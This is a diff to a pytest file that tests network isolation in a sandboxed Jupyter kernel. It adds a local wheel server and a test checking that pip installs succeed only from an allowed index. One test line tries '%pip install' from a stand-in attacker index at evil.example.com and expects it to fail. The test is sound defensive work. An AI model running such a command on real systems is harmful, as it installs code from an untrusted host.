@@ -18,6 +18,7 @@ from codeact_tui.sandbox import network
 from codeact_tui.sandbox.choice import SandboxMode, SandboxSettings
 from codeact_tui.session.reaching import NetworkLog
 from tests.kernel.helpers import Cells, Listener, eventually
+from tests.kernel.wheels import make_wheel, unpack_pip
 from tests.sandbox.attacks import Attack
 from tests.sandbox.mechanisms import working_mechanisms
 from tests.sandbox.network_attacks import ALLOWED, NAMES, NETWORK_ATTACKS, PRELUDE, PUBLIC
@@ -54,8 +55,12 @@ print(answer.partition(b"\\r\\n\\r\\n")[2].decode())
 
 
 @pytest.fixture(scope="module")
-def server() -> Iterator[HttpServer]:
-    with HttpServer() as running:
+def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[HttpServer]:
+    folder = tmp_path_factory.mktemp("wheels")
+    make_wheel(folder, "tinya", "1.0")
+    [wheel] = folder.iterdir()
+    listed = f'<a href="/wheels/{wheel.name}">{wheel.name}</a>'.encode()
+    with HttpServer(files={"/simple/tinya/": listed, f"/wheels/{wheel.name}": wheel.read_bytes()}) as running:
         yield running
 
 
@@ -83,7 +88,11 @@ async def cells(
     settings = SandboxSettings(cast("SandboxMode", request.param), network=ALLOWED)
     with pytest.MonkeyPatch.context() as patch:
         patch.setattr(network, "PROXY_COMMAND", command)
-        kernel = JupyterKernel(tmp_path_factory.mktemp("workspace"), sandbox=settings)
+        workspace = tmp_path_factory.mktemp("workspace")
+        unpack_pip(workspace / "with_pip")
+        environment = {**os.environ, "PYTHONPATH": str(workspace / "with_pip")}
+        layer = tmp_path_factory.mktemp("data") / "packages" / "s1"
+        kernel = JupyterKernel(workspace, environment=environment, sandbox=settings, layer=layer)
         await kernel.start(Listener())
         yield Cells(kernel)
         await kernel.shutdown()
@@ -114,6 +123,22 @@ async def printed(cells: Cells, code: str) -> str:
 )
 async def test_what_is_allowed_is_reached_by_ordinary_programs(cells: Cells, code: str) -> None:
     assert await printed(cells, code) == "you asked for /a of example.org"
+
+
+@pytest.mark.asyncio(loop_scope="module")
+async def test_pip_installs_from_an_index_that_is_allowed_and_from_no_other(cells: Cells, server: HttpServer) -> None:
+    install = "%pip install -q --disable-pip-version-check --no-cache-dir --retries 0 "
+    seen = server.requests
+    refused = "--index-url http://evil.example.com/simple --trusted-host evil.example.com tinya"
+    cells.outputs.clear()
+    await cells.run(install + refused)
+    assert "No matching distribution" in cells.text
+    assert server.requests == seen
+    await printed(cells, f"{install}--index-url http://example.org/simple --trusted-host example.org tinya")
+    layer = cast("JupyterKernel", cells.kernel).layer
+    assert layer is not None
+    where = await printed(cells, "import tinya; print(tinya.VERSION, tinya.__file__)")
+    assert where.startswith(f"1.0 {layer.folder}/")
 
 
 @pytest.mark.asyncio(loop_scope="module")
